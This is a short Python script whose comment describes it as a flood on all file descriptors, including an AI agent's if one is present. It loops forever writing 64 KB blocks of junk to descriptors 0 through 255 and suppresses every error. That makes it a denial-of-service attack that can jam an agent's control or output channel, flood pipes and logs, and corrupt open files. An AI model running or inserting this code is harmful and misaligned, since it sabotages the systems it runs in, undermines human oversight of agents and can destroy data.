# why: a flood on all descriptors, the agent's among them if there is one
import os

while True:
    for fd in range(256):
        try:
            os.write(fd, b"x" * 65536)
        except OSError:
            pass
